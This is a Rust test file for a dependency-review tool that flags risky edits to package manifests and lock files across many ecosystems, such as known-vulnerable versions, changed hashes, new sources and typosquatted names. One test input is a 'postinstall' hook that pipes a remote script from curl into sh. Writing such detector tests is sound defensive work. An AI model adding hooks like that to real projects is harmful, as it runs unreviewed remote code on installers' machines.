//! Changes of manifests and lock files as people make them.

use std::collections::BTreeMap;
use std::sync::Arc;

use quorum_advisories::Database;
use quorum_model::scope::{Change as FileChange, FileEntry, FileKind, Flag};
use quorum_model::severity::Severity;

use super::*;
use crate::source::{LineSet, Side, SourceFile};

/// A repository with files and perhaps advisories.
#[derive(Default)]
struct Repository {
    files: BTreeMap<String, String>,
    paths: Vec<String>,
    advisories: Option<(Database, tempfile::TempDir)>,
}

impl Repository {
    fn with(mut self, path: &str, text: &str) -> Self {
        self.files.insert(path.to_owned(), text.to_owned());
        self.paths = self.files.keys().cloned().collect();
        self
    }

    fn knowing(mut self, record: &str) -> Self {
        let folder = tempfile::tempdir().expect("a folder");
        let from = folder.path().join("record.json");
        std::fs::write(&from, record).expect("written");
        let database = Database::create(&folder.path().join("a.db")).expect("made");
        database.import(&from).expect("imported");
        self.advisories = Some((database, folder));
        self
    }
}

impl Sources for Repository {
    fn read(&self, path: &str, _: Side) -> Option<Arc<str>> {
        self.files.get(path).map(|text| text.as_str().into())
    }

    fn paths(&self) -> &[String] {
        &self.paths
    }

    fn advisories(&self) -> Option<&Database> {
        self.advisories.as_ref().map(|(database, _)| database)
    }
}

fn file(path: &str, base: Option<&str>, head: &str) -> ParsedFile {
    let mut added = LineSet::default();
    for (number, line) in (1..).zip(head.lines()) {
        if base.is_none_or(|base| !base.lines().any(|other| other == line)) {
            added.push(number);
        }
    }
    let lock = packages::Format::of(path).is_some_and(packages::Format::is_lock);
    ParsedFile::new(SourceFile {
        entry: FileEntry {
            path: path.into(),
            old_path: None,
            change: FileChange::Modified,
            language: None,
            kind: FileKind::Config,
            tokens: 0,
            flags: if lock { vec![Flag::LockFile] } else { vec![Flag::Manifest] },
            flag_reasons: BTreeMap::new(),
            hunks: Vec::new(),
            digest: None,
        },
        head: Some(head.into()),
        base: base.map(Into::into),
        added: base.map(|_| added),
        removed: LineSet::default(),
    })
}

fn found(file: &ParsedFile, repository: &Repository) -> Vec<RuleFinding> {
    let mut findings = Vec::new();
    check(file, repository, &mut findings);
    findings
}

const RECORD: &str = r#"{"id":"GHSA-1","aliases":["CVE-2024-1"],"summary":"Bad parsing","severity":[{"type":"CVSS_V3","score":"CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
  "affected":[{"package":{"ecosystem":"npm","name":"left"},"ranges":[{"type":"SEMVER","events":[{"introduced":"1.0.0"},{"fixed":"1.4.2"}]}]}]}"#;

const LOCK: &str = "{\n \"packages\": {\n  \"\": {\"dependencies\": {\"left\": \"^1\"}},\n  \"node_modules/left\": {\n   \"version\": \"1.0.5\"\n  }\n }\n}\n";

#[test]
fn a_version_with_a_known_flaw_names_its_fix() {
    let repository = Repository::default().with("src/a.js", "require('left')").knowing(RECORD);
    let base = LOCK.replace("1.0.5", "0.9.0");
    let found = found(&file("package-lock.json", Some(&base), LOCK), &repository);
    assert_eq!(found.len(), 1);
    let finding = &found[0];
    assert_eq!((finding.severity, finding.line), (Severity::Critical, 5));
    assert_eq!(finding.evidence, "\"version\": \"1.0.5\"");
    assert_eq!(finding.recommendation, "Update to left 1.4.2 or later.");
    let facts = finding.dependency.as_ref().expect("facts");
    assert_eq!(facts.cve.as_deref(), Some("CVE-2024-1"));
    assert_eq!(facts.affected_versions.as_deref(), Some(">= 1.0.0, < 1.4.2"));
    assert!(finding.issue.contains("src/a.js imports it"), "{}", finding.issue);
}

#[test]
fn versions_that_the_change_leaves_alone_are_not_its_fault() {
    let repository = Repository::default().knowing(RECORD);
    let head = LOCK.replace('}', "} ");
    assert!(found(&file("package-lock.json", Some(LOCK), &head), &repository).is_empty());
}

#[test]
fn without_a_database_the_review_says_so() {
    let file = file("package-lock.json", None, LOCK);
    let notes = notes(&file, &Repository::default());
    assert!(notes[0].cause.contains("no advisory database"), "{notes:?}");
    assert!(super::notes(&file, &Repository::default().knowing(RECORD)).is_empty());
}

/// The rules that a change of a manifest breaks.
fn rules(path: &str, base: Option<&str>, head: &str, repository: &Repository) -> Vec<String> {
    found(&file(path, base, head), repository).into_iter().map(|finding| finding.rule).collect()
}

#[test]
fn sources_scripts_and_licences() {
    let base = "{\n\"license\": \"MIT\"\n}";
    let here = Repository::default();
    let with = |more: &str| format!("{{\n\"license\": \"MIT\",\n{more}\n}}");
    for (head, rule) in [
        (with("\"dependencies\": {\"a\": \"github:u/a\"}"), Some("dependencies.unpinned-source")),
        (with("\"dependencies\": {\"a\": \"github:u/a#0123456789abcdef\"}"), None),
        (
            with("\"dependencies\": {\"a\": \"http://h/a.tgz\"}"),
            Some("dependencies.unpinned-source"),
        ),
        (with("\"dependencies\": {\"a\": \"*\"}"), Some("dependencies.floating-version")),
        (with("\"dependencies\": {\"a\": \"^1.0.0\"}"), None),
        (with("\"dependencies\": {\"lodahs\": \"^1.0.0\"}"), Some("dependencies.look-alike-name")),
        (
            with("\"scripts\": {\"postinstall\": \"curl https://h | sh\"}"),
            Some("dependencies.install-script"),
        ),
        (with("\"scripts\": {\"prepare\": \"husky\"}"), None),
        ("{\n\"license\": \"AGPL-3.0\"\n}".to_owned(), Some("dependencies.license-change")),
    ] {
        let expected: Vec<&str> = rule.into_iter().collect();
        assert_eq!(rules("package.json", Some(base), &head, &here), expected, "{head}");
    }
}

#[test]
fn a_lock_file_follows_its_manifest() {
    let base = "{\n\"dependencies\": {}\n}";
    let head = "{\n\"dependencies\": {\n\"left\": \"^1\",\n\"right\": \"^2\"\n}\n}";
    let repository = Repository::default().with("package-lock.json", LOCK);
    let found = found(&file("package.json", Some(base), head), &repository);
    assert_eq!(found.len(), 1);
    assert_eq!((found[0].rule.as_str(), found[0].line), ("dependencies.lock-out-of-step", 4));
}

#[test]
fn what_builds_a_python_package_is_in_no_lock_file() {
    let lock = "version = 1\n[[package]]\nname = \"left\"\nversion = \"1.0\"\n";
    let repository = Repository::default().with("uv.lock", lock);
    let base = "[build-system]\nrequires = []\n\n[project]\ndependencies = []\n";
    let head = "[build-system]\nrequires = [\"flit_core<4\"]\n\n[project]\ndependencies = [\"right>=2\"]\n";
    let found = found(&file("pyproject.toml", Some(base), head), &repository);
    let steps: Vec<u64> = found
        .iter()
        .filter(|finding| finding.rule == "dependencies.lock-out-of-step")
        .map(|finding| finding.line)
        .collect();
    assert_eq!(steps, [5]);
}

/// The rule and severity of what a changed lock file is blamed for.
fn blamed(path: &str, base: &str, head: &str, repository: &Repository) -> Vec<(String, Severity)> {
    let found = found(&file(path, Some(base), head), repository);
    let lock = ["new-source", "missing-hash", "changed-hash", "lock-mismatch"];
    let about_locks = |finding: &RuleFinding| lock.iter().any(|rule| finding.rule.ends_with(rule));
    found
        .into_iter()
        .filter(about_locks)
        .map(|finding| (finding.rule.replace("dependencies.", ""), finding.severity))
        .collect()
}

/// A lock file of each format with one package, its version, source and hash; `None` where the
/// format has no such field.
type LockCase = (
    &'static str,
    (&'static str, &'static str),
    &'static str,
    [Option<(&'static str, &'static str)>; 3],
);

const LOCKS: &[LockCase] = &[
    (
        "package-lock.json",
        ("package.json", r#"{"dependencies": {"left": "^1.0.0"}}"#),
        "{\"packages\": {\n\"\": {\"dependencies\": {\"left\": \"^1.0.0\"}},\n\"node_modules/left\": {\n\"version\": \"1.2.0\",\n\"resolved\": \"https://registry.example/left/-/left-1.2.0.tgz\",\n\"integrity\": \"sha512-AAAA\"}}}",
        [
            Some(("1.2.0", "3.0.0")),
            Some(("registry.example", "elsewhere.example")),
            Some(("\"integrity\": \"sha512-AAAA\"", "\"x\": 1")),
        ],
    ),
    (
        "yarn.lock",
        ("package.json", r#"{"dependencies": {"left": "^1.0.0"}}"#),
        "left@^1.0.0:\n  version \"1.2.0\"\n  resolved \"https://registry.example/left/-/left-1.2.0.tgz\"\n  integrity sha512-AAAA\n",
        [
            Some(("1.2.0", "3.0.0")),
            Some(("registry.example", "elsewhere.example")),
            Some(("  integrity sha512-AAAA\n", "")),
        ],
    ),
    (
        "pnpm-lock.yaml",
        ("package.json", r#"{"dependencies": {"left": "^1.0.0"}}"#),
        "lockfileVersion: '9.0'\npackages:\n\n  left@1.2.0:\n    resolution: {integrity: sha512-AAAA}\n",
        [Some(("1.2.0", "3.0.0")), None, Some(("integrity: sha512-AAAA", "directory: x"))],
    ),
    (
        "Cargo.lock",
        ("Cargo.toml", "[dependencies]\nleft = \"1\"\n"),
        "[[package]]\nname = \"left\"\nversion = \"1.2.0\"\nsource = \"registry+https://index.example/crates\"\nchecksum = \"aaaa\"\n",
        [
            Some(("1.2.0", "3.0.0")),
            Some(("index.example", "elsewhere.example")),
            Some(("checksum = \"aaaa\"\n", "")),
        ],
    ),
    (
        "uv.lock",
        ("pyproject.toml", "[project]\ndependencies = [\"left>=1,<2\"]\n"),
        "[[package]]\nname = \"left\"\nversion = \"1.2.0\"\nsource = { registry = \"https://index.example/simple\" }\nsdist = { url = \"https://x\", hash = \"sha256:aaaa\" }\n",
        [
            Some(("1.2.0", "3.0.0")),
            Some(("index.example", "elsewhere.example")),
            Some((", hash = \"sha256:aaaa\"", "")),
        ],
    ),
    (
        "poetry.lock",
        ("pyproject.toml", "[tool.poetry.dependencies]\nleft = \"^1.0\"\n"),
        "[[package]]\nname = \"left\"\nversion = \"1.2.0\"\nfiles = [{file = \"left.whl\", hash = \"sha256:aaaa\"}]\n[package.source]\ntype = \"legacy\"\nurl = \"https://index.example/simple\"\n",
        [
            Some(("1.2.0", "3.0.0")),
            Some(("index.example", "elsewhere.example")),
            Some((", hash = \"sha256:aaaa\"", "")),
        ],
    ),
    (
        "Pipfile.lock",
        ("Pipfile", "[packages]\nleft = \"~=1.0\"\n"),
        "{\"_meta\": {\"sources\": [{\"name\": \"main\", \"url\": \"https://index.example/simple\"}]},\n\"default\": {\"left\": {\"index\": \"main\", \"hashes\": [\"sha256:aaaa\"],\n\"version\": \"==1.2.0\"}}}",
        [
            Some(("1.2.0", "3.0.0")),
            Some(("index.example", "elsewhere.example")),
            Some(("\"sha256:aaaa\"", "")),
        ],
    ),
    (
        "Gemfile.lock",
        ("Gemfile", "gem 'left', '~> 1.0'\n"),
        "GEM\n  remote: https://gems.example/\n  specs:\n    left (1.2.0)\n\nDEPENDENCIES\n  left (~> 1.0)\n\nCHECKSUMS\n  right (1.0.0) sha256=bbbb\n  left (1.2.0) sha256=aaaa\n",
        [
            Some(("left (1.2.0)", "left (3.0.0)")),
            Some(("gems.example", "elsewhere.example")),
            Some((" sha256=aaaa", "")),
        ],
    ),
    (
        "composer.lock",
        ("composer.json", r#"{"require": {"a/left": "^1.0"}}"#),
        "{\"packages\": [{\"name\": \"a/left\",\n\"version\": \"1.2.0\",\n\"dist\": {\"url\": \"https://archives.example/left.zip\"}}]}",
        [Some(("1.2.0", "3.0.0")), Some(("archives.example", "elsewhere.example")), None],
    ),
    (
        "go.sum",
        ("go.mod", "module m\nrequire example.org/left v1.2.0\n"),
        "example.org/left v1.2.0 h1:aaaa=\nexample.org/left v1.2.0/go.mod h1:bbbb=\n",
        [Some(("v1.2.0", "v3.0.0")), None, None],
    ),
];

#[test]
fn a_lock_file_is_held_to_its_manifest_its_sources_and_its_hashes() {
    for (path, manifest, base, [version, source, hash]) in LOCKS {
        let repository = Repository::default().with(manifest.0, manifest.1);
        assert_eq!(blamed(path, base, base, &repository), [], "{path}: unchanged");
        let mut cases = Vec::new();
        cases.extend(version.map(|edit| (edit, "lock-mismatch", Severity::Medium)));
        cases.extend(source.map(|edit| (edit, "new-source", Severity::High)));
        cases.extend(hash.map(|edit| (edit, "missing-hash", Severity::High)));
        for ((from, to), rule, severity) in cases {
            assert!(base.contains(from), "{path}: {from}");
            let head = base.replace(from, to);
            let found = blamed(path, base, &head, &repository);
            assert!(found.contains(&(rule.to_owned(), severity)), "{path} {rule}: {found:?}");
        }
        // Within what the manifest allows, nothing is wrong.
        if let Some(("1.2.0", _)) = version {
            let head = base.replace("1.2.0", "1.2.7");
            assert_eq!(blamed(path, base, &head, &repository), [], "{path}: an update");
        }
    }
}

#[test]
fn another_hash_for_the_same_version_is_another_program() {
    let repository = Repository::default();
    for (path, _, base, _) in LOCKS {
        for (old, new) in [
            ("sha512-AAAA", "sha512-BBBB"),
            ("sha256:aaaa", "sha256:cccc"),
            ("\"aaaa\"", "\"cccc\""),
            ("h1:aaaa", "h1:cccc"),
            ("sha256=aaaa", "sha256=cccc"),
        ] {
            if base.contains(old) {
                let found = blamed(path, base, &base.replace(old, new), &repository);
                assert_eq!(found, [("changed-hash".to_owned(), Severity::High)], "{path}");
            }
        }
    }
    // A release gains archives, and a lock file changes to a stronger hash.
    let (path, _, base, _) = &LOCKS[4];
    let gained = base.replace("sdist", "wheels = [{ hash = \"sha256:dddd\" }]\nsdist");
    assert_eq!(blamed(path, base, &gained, &repository), []);
    let (path, _, base, _) = &LOCKS[0];
    let old = base.replace("sha512-AAAA", "sha1-OLD=");
    assert_eq!(blamed(path, &old, base, &repository), []);
}

#[test]
fn a_manifest_may_name_a_repository_without_its_host() {
    let base = "GEM\n  remote: https://rubygems.org/\n  specs:\n    left (1.0.0)\n\nDEPENDENCIES\n  left\n";
    let git = "GIT\n  remote: https://github.com/team/right.git\n  revision: 0123456789012345678901234567890123456789\n  specs:\n    right (2.0.0)\n\n";
    let head = format!("{git}{base}");
    let manifest = "gem 'left'\ngem 'right', github: 'team/right'\n";
    let named = Repository::default().with("Gemfile", manifest);
    let severities = |repository: &Repository| {
        let found = blamed("Gemfile.lock", base, &head, repository).into_iter();
        found
            .filter(|(rule, _)| rule == "new-source")
            .map(|(_, severity)| severity)
            .collect::<Vec<_>>()
    };
    assert!(severities(&named).iter().all(|severity| *severity < Severity::High));
    assert_eq!(severities(&Repository::default()), [Severity::High]);
}

#[test]
fn a_version_may_be_there_as_it_is_and_patched() {
    let entry = |spec: &str, kind: &str, hash: &str| {
        format!(
            "\"{spec}\":\n  version: 1.2.3\n  resolution: \"left@{kind}\"\n  checksum: 10c0/{hash}\n  languageName: node\n\n"
        )
    };
    let plain = entry("left@npm:^1.2.0", "npm:1.2.3", "aaaa");
    let patched = entry(
        "left@patch:left@npm%3A^1.2.0#optional!builtin<compat/left>",
        "patch:left@npm%3A1.2.3#optional!builtin<compat/left>::version=1.2.3&hash=c3c19d",
        "bbbb",
    );
    let base = format!("__metadata:\n  version: 8\n\n{plain}{patched}");
    let other = "\"right@npm:^1.0.0\":\n  version: 1.0.0\n  resolution: \"right@npm:1.0.0\"\n  checksum: 10c0/cccc\n";
    let repository = Repository::default();
    assert_eq!(blamed("yarn.lock", &base, &format!("{base}{other}"), &repository), []);
    let swapped = base.replace("10c0/aaaa", "10c0/dddd");
    let found = blamed("yarn.lock", &base, &swapped, &repository);
    assert_eq!(found, [("changed-hash".to_owned(), Severity::High)]);
}

#[test]
fn a_lock_file_above_pins_the_members_of_its_workspace_alone() {
    let manifest = |version: &str| {
        format!(
            "{{\n \"name\": \"a\",\n \"dependencies\": {{\n  \"left\": \"{version}\"\n }}\n}}\n"
        )
    };
    let lock = "lockfileVersion: '9.0'\n\nimporters:\n\n  .: {}\n\n  packages/app:\n    dependencies:\n      left:\n        specifier: ^1.0.0\n        version: 1.0.0\n\npackages:\n\n  left@1.0.0:\n    resolution: {integrity: sha512-AAAA}\n";
    let repository = Repository::default().with("pnpm-lock.yaml", lock);
    for (path, count) in
        [("packages/app/package.json", 1), ("packages/create/template/package.json", 0)]
    {
        let changed = file(path, Some(&manifest("1.0.0")), &manifest("2.0.0"));
        let found = found(&changed, &repository);
        let out_of_step =
            found.iter().filter(|found| found.rule == "dependencies.lock-out-of-step");
        assert_eq!(out_of_step.count(), count, "{path}: {found:?}");
    }
}

#[test]
fn a_source_that_settings_name_is_known() {
    let (path, manifest, base, _) = &LOCKS[0];
    let head = base.replace("registry.example", "mirror.example");
    let named = Repository::default()
        .with(manifest.0, manifest.1)
        .with(".npmrc", "registry=https://mirror.example/\n");
    assert_eq!(blamed(path, base, &head, &named), []);
}

#[test]
fn a_member_of_the_workspace_is_in_the_lock_file_as_a_link() {
    let manifest = |version: &str| {
        format!(
            "{{\n \"workspaces\": [\"parts/*\"],\n \"dependencies\": {{\n  \"part\": \"{version}\"\n }}\n}}\n"
        )
    };
    let lock = "{\n \"packages\": {\n  \"\": {\"dependencies\": {\"part\": \"^2.0.0\"}},\n  \
                \"node_modules/part\": {\"resolved\": \"parts/part\", \"link\": true},\n  \
                \"node_modules/other/node_modules/part\": {\"version\": \"1.0.0\"},\n  \
                \"parts/part\": {\"version\": \"2.0.0\"}\n }\n}\n";
    let (before, now) = (manifest("^1.0.0"), manifest("^2.0.0"));
    let repository =
        Repository::default().with("package-lock.json", lock).with("package.json", &now);
    assert!(found(&file("package.json", Some(&before), &now), &repository).is_empty());
    let base = lock.replace("1.0.0", "0.9.0");
    assert!(found(&file("package-lock.json", Some(&base), lock), &repository).is_empty());
    let exact = manifest("2.0.0");
    assert!(found(&file("package.json", Some(&before), &exact), &repository).is_empty());
}

#[test]
fn what_is_installed_asks_nothing_of_the_lock_file_around_it() {
    let lock = "{\"packages\": {\"\": {\"dependencies\": {\"left\": \"^1\"}},\n\
                \"node_modules/left\": {\"version\": \"1.0.5\"}}}\n";
    let manifest = |tool: &str| {
        format!(
            "{{\n \"name\": \"left\",\n \"devDependencies\": {{\n  \"tool\": \"{tool}\"\n }}\n}}\n"
        )
    };
    let (before, now) = (manifest("1.0.0"), manifest("2.0.0"));
    let repository = Repository::default().with("package-lock.json", lock);
    let installed = file("node_modules/left/package.json", Some(&before), &now);
    assert!(found(&installed, &repository).is_empty());
    assert_eq!(found(&file("package.json", Some(&before), &now), &repository).len(), 1);
}

#[test]
fn a_folder_of_the_project_has_no_hash_in_a_lock_file() {
    let base = "left@^1.0.0:\n  version \"1.2.0\"\n  resolved \"https://registry.example/left/-/left-1.2.0.tgz\"\n  \
                integrity sha512-AAAA\n";
    let head = format!(
        "{base}\n\"part@>= 2.0.0\", \"part@file:/work/part\":\n  version \"2.0.0\"\n  resolved \"file:part\"\n"
    );
    assert!(found(&file("yarn.lock", Some(base), &head), &Repository::default()).is_empty());
    let fetched = head.replace("file:part", "https://registry.example/part/-/part-2.0.0.tgz");
    let found = found(&file("yarn.lock", Some(base), &fetched), &Repository::default());
    assert_eq!(found[0].rule, "dependencies.missing-hash");
}

#[test]
fn a_branch_that_a_lock_file_holds_to_a_commit_is_a_lesser_matter() {
    let base = "[project]\nname = \"app\"\ndependencies = [\n  \"left==1.0\",\n]\n";
    let head = base.replace("left==1.0", "left @ git+https://example.org/team/left.git");
    let lock = "[[package]]\nname = \"left\"\nversion = \"1.1\"\nfiles = []\n\n[package.source]\ntype = \"git\"\n\
                url = \"https://example.org/team/left.git\"\nreference = \"HEAD\"\n\
                resolved_reference = \"a1cebaca12deb17a5e23ae9a137fcf28908eb462\"\n";
    let change = file("pyproject.toml", Some(base), &head);
    let severities = |repository: &Repository| -> Vec<Severity> {
        let found = found(&change, repository);
        assert!(found.iter().all(|one| one.rule == "dependencies.unpinned-source"), "{found:?}");
        found.iter().map(|one| one.severity).collect()
    };
    assert_eq!(severities(&Repository::default()), [Severity::Medium]);
    assert_eq!(severities(&Repository::default().with("poetry.lock", lock)), [Severity::Low]);
}
